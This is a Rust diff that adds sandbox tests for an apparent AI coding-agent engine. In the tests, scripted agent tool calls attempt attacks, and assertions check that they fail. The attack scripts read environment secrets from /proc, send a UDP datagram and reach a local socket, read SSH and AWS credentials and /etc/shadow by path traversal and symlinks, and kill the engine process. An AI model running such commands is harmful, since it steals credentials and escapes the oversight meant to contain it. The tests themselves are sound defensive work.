@@ -47,11 +47,13 @@ pub(crate) struct Attacked {
 }
 
 impl Attacked {
-    /// Returns every tool result the model was sent, in order.
+    /// Returns every tool result the model was sent in its first conversation (a fix round
+    /// starts another), in order.
     pub fn tool_results(&self) -> Vec<String> {
         self.requests
-            .last()
+            .iter()
             .map(crate::agent_loop::tool_results)
+            .max_by_key(Vec::len)
             .unwrap_or_default()
     }
 
@@ -246,7 +248,7 @@ for i in 1 2 3 4 5 6; do
   tr '\0' '\n' < /proc/$p/environ 2>/dev/null | grep '{needle}' >> stolen.txt
 done
 cat stolen.txt
-true
+echo '// x' >> src/lib.rs
 "#
     )
 }
@@ -302,4 +304,103 @@ fn keys_named_like_api_keys_leave_the_engines_environment() {
     );
     let results = ran.tool_results();
     assert!(!results[0].contains(secret), "{}", results[0]);
+}
+
+#[test]
+fn without_the_network_udp_and_unix_sockets_reach_nothing() {
+    let repo = TestRepo::new();
+    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let port = udp.local_addr().unwrap().port();
+    let sock = repo.scratch().join("daemon.sock");
+    let unix = std::os::unix::net::UnixListener::bind(&sock).unwrap();
+    unix.set_nonblocking(true).unwrap();
+    // A datagram through bash's /dev/udp, and a connection to a local daemon's socket through
+    // git's own credential-cache client (no other tool needed).
+    let script = format!(
+        "bash -c 'echo exfiltrated > /dev/udp/127.0.0.1/{port}'; echo udp=$?; git credential-cache --socket {sock} exit; echo unix=$?; echo '// x' >> src/lib.rs",
+        sock = sock.display()
+    );
+    let ran = attack(&repo, vec![run("c1", &script), complete("c2")], &[]);
+    let results = ran.tool_results();
+    assert!(
+        results.first().is_some_and(|r| r.contains("udp=")),
+        "{results:?} {}",
+        text(&ran.out)
+    );
+    let mut buf = [0u8; 64];
+    assert!(
+        udp.recv_from(&mut buf).is_err(),
+        "a datagram left the sandbox: {results:?}"
+    );
+    assert!(
+        unix.accept().is_err(),
+        "the sandbox connected to a local UNIX socket: {results:?}"
+    );
+}
+
+#[test]
+fn credentials_under_home_and_in_etc_stay_unreadable_to_commands_and_file_tools() {
+    let repo = TestRepo::new();
+    let home = PathBuf::from(std::env::var("HOME").unwrap());
+    let secret = "ssh-secret-9c1d7e2f4a";
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_attack"), secret).unwrap();
+    std::fs::create_dir_all(home.join(".aws")).unwrap();
+    std::fs::write(home.join(".aws/credentials"), secret).unwrap();
+    let shadow = std::fs::read_to_string("/etc/shadow")
+        .ok()
+        .and_then(|t| t.lines().next().map(str::to_string));
+    let script = "cat ~/.ssh/id_attack ~/.aws/credentials; head -n 1 /etc/shadow; ln -s ~/.ssh keys; cp ~/.ssh/id_attack stolen.txt; echo '// x' >> src/lib.rs";
+    let ran = attack(
+        &repo,
+        vec![
+            run("c1", script),
+            call(
+                "c2",
+                "read_file",
+                json!({"path": home.join(".ssh/id_attack").display().to_string()}),
+            ),
+            call("c3", "read_file", json!({"path": "keys/id_attack"})),
+            call(
+                "c4",
+                "read_file",
+                json!({"path": "../../../../../../../../../../../".to_string() + &home.join(".ssh/id_attack").display().to_string()}),
+            ),
+            complete("c5"),
+        ],
+        &[],
+    );
+    let results = ran.tool_results();
+    assert_eq!(results.len(), 4, "{results:?}");
+    for r in &results {
+        assert!(!r.contains(secret), "a credential was read: {results:?}");
+        if let Some(line) = &shadow {
+            assert!(!r.contains(line.as_str()), "/etc/shadow was read: {r}");
+        }
+    }
+    let log = repo.git(&["log", "-p", "--all"]);
+    assert!(!log.contains(secret), "a credential was committed");
+}
+
+#[test]
+fn a_command_cannot_signal_the_engine() {
+    let repo = TestRepo::new();
+    // Every ancestor that is git-orchestra (the engine, and a launcher if any) gets SIGKILL.
+    let script = r#"p=$$
+for i in 1 2 3 4 5 6; do
+  p=$(sed 's/.*) //' /proc/$p/stat | cut -d' ' -f2)
+  [ "$p" -gt 1 ] 2>/dev/null || break
+  [ "$(cat /proc/$p/comm)" = git-orchestra ] && kill -KILL "$p" && echo "killed $p"
+done
+echo '// x' >> src/lib.rs
+true"#;
+    let ran = attack(&repo, vec![run("c1", script), complete("c2")], &[]);
+    assert!(
+        ran.out.status.code().is_some(),
+        "the engine was killed by its agent's command: {}",
+        text(&ran.out)
+    );
+    assert_eq!(ran.state(), "succeeded", "{}", text(&ran.out));
+    assert!(!ran.tool_results()[0].contains("killed"));
 }
